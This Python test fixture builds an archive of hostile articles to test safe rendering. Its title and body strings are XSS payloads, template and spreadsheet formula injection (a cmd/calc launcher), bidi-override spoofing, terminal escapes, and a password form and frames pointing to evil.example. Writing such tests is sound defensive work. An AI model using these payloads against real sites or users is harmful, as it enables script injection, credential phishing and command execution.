"""Forty articles that somebody wrote against whoever shows them: titles, sources, bodies, in a file as another hand left it."""

from __future__ import annotations

from pathlib import Path

from tests.reading.shelves import archived, article, running

TITLES = (
    "<script>parent.hit=1</script>",
    "<img src=x onerror=parent.hit=1>",
    "</title><script>parent.hit=1</script>",
    "{{ 7*7 }}{% raw %}{{ config }}{% endraw %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "\u202etxt.exe\u202c 右至左",
    "\u2066\u2067\u2068 不闭合的方向标记",
    "=cmd|' /C calc'!A1",
    "+1+1", "@SUM(1)", "-2+3",
    "'\"><svg onload=parent.hit=1>",
    "javascript:parent.hit=1",
    "a" * 5_000,
    "字" * 5_000,
    "\x1b[31m红\x1b[0m\x07",
    "&lt;b&gt;已转义&amp;lt;",
    "零\u200b宽\ufeff\u2060字",
    "👨‍👩‍👧‍👦🏳️‍🌈 表情",
    "--><!--<![CDATA[ ]]>",
)  # fmt: skip
BODIES = (
    "<script>parent.hit=1</script><p>甲</p>",
    '<p onclick="parent.hit=1" style="position:fixed;inset:0" id="main" class="skip">乙</p>',
    "<style>*{display:none}</style><p>丙</p>",
    '<iframe src="https://evil.example/"></iframe><p>丁</p>',
    '<form action="https://evil.example"><input name="password"><button>戊</button></form>',
    '<a href="javascript:parent.hit=1">己</a><a href="data:text/html,x">庚</a><a href="//evil.example">辛</a>',
    '<img src="https://evil.example/x.png"><img src="http://n.sinaimg.cn/x.png"><img src="https://n.sinaimg.cn/y.png">',
    '<img src="https://n.sinaimg.cn@evil.example/x.png"><img src="https://sinaimg.cn.evil.example/x.png"><img src="data:image/svg+xml,x">',
    '<svg><script>parent.hit=1</script></svg><math><mi xlink:href="javascript:x">壬</mi></math><p>癸</p>',
    "<p>" + "长" * 1_000_000 + "</p>",
    "<p>" + "a" * 200_000 + "</p>",
    "<div>" * 300 + "深" + "</div>" * 300,
    "&amp;" * 70_000,
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><p>子</p>',
    '<object data="https://evil.example"></object><embed src="https://evil.example"><p>丑</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css"><p>寅</p>',
    "<p>\x1b[2J\x1b]0;evil\x07卯\u202e</p>",
    "<table><tr><td colspan=100000>辰</td></tr></table>",
    "</div></article></main></body><p>巳</p>",
    "<plaintext><p>午",
)  # fmt: skip


def hostile(root: Path) -> list[str]:
    """An archive of them; their docids.  Cleaning would have taken most away: here another program wrote the files."""
    shown = [
        article(number, title=title, media=title[:50], keywords=(title[:50],)) for number, title in enumerate(TITLES, 1)
    ]
    bodies = [article(100 + number, body=body) for number, body in enumerate(BODIES)]
    with running(root) as archive:
        archived(archive, *shown, *bodies)
    return [one.offer.docid for one in (*shown, *bodies)]
